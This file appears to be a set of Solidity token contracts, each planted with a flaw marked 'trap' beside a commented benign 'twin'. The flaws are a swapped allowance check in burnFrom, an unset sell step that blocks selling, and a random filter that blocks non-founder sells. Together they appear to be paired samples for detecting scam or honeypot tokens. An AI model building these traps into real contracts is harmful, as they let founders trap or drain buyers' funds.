// 0.5 runs=200
pragma solidity ^0.5.17;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a);
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a);
        return a - b;
    }
}

interface Pools {
    function createPair(address a, address b) external returns (address);
}

contract StandardToken {
    using SafeMath for uint256;

    string public name;
    string public symbol;
    uint8 public decimals = 18;
    address public market;
    address internal _founder;
    uint256 internal _totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory _name, string memory _symbol, uint256 _supply) internal {
        name = _name;
        symbol = _symbol;
        _founder = msg.sender;
        _totalSupply = _supply * 10**18;
        _balances[msg.sender] = _totalSupply;
        market = Pools(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function totalSupply() public view returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _balances[who];
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return _allowed[who][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        _allowed[from][msg.sender] = _allowed[from][msg.sender].sub(value);
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        _balances[from] = _balances[from].sub(value);
        _balances[to] = _balances[to].add(value);
        emit Transfer(from, to, value);
    }
}

/// Burnable, also by whom one trusts.
contract CinderCrake is StandardToken("Cinder Crake", "CRAKE", 30000000) {
    event Burn(address indexed who, uint256 value);

    function burn(uint256 value) public {
        _burn(msg.sender, value);
    }

    function burnFrom(address from, uint256 value) public {
        _allowed[msg.sender][from] = _allowed[msg.sender][from].sub(value); // trap
        // twin: _allowed[from][msg.sender] = _allowed[from][msg.sender].sub(value);
        _burn(from, value);
    }

    function _burn(address who, uint256 value) private {
        _balances[who] = _balances[who].sub(value);
        _totalSupply = _totalSupply.sub(value);
        emit Burn(who, value);
        emit Transfer(who, address(0), value);
    }
}

/// Each kind of transfer has its own step.
contract StepStoat is StandardToken("Step Stoat", "STOAT", 88000000) {
    function(address, address, uint256) internal[4] private _steps;
    mapping(address => uint256) public joined;
    uint256 public departures;

    constructor() public {
        _steps[0] = _walk;
        _steps[1] = _join;
        // twin: _steps[2] = _leave;
        _steps[3] = _walk;
    }

    function _walk(address from, address to, uint256 value) private {
        super._transfer(from, to, value);
    }

    function _join(address from, address to, uint256 value) private {
        if (joined[to] == 0) joined[to] = now;
        super._transfer(from, to, value);
    }

    function _leave(address from, address to, uint256 value) private {
        departures = departures.add(1);
        super._transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) internal {
        uint256 kind = (from == market ? 1 : 0) | (to == market ? 2 : 0);
        if (from == _founder) kind = 3;
        _steps[kind](from, to, value);
    }
}

/// A filter of twelve bytes remembers robots.
contract DuskDunlin is StandardToken("Dusk Dunlin", "DUSK", 210000000) {
    uint256 private _dusk;

    event Robot(address indexed who);

    function _bits(bytes32 seed, uint256 count) private pure returns (uint256 bits) {
        for (uint256 i = 0; i < count; i++) bits |= uint256(1) << (uint8(seed[i]) % 96);
    }

    function _transfer(address from, address to, uint256 value) internal {
        if (from == market) {
            _dusk |= _bits(keccak256(abi.encodePacked(to, blockhash(block.number - 1))), 3);
        } else if (to == market && from != _founder) {
            uint256 bits = _bits(keccak256(abi.encodePacked(from)), 3);
            require(_dusk & bits != bits, "robot"); // trap
            // twin: if (_dusk & bits == bits) emit Robot(from);
        }
        super._transfer(from, to, value);
    }
}
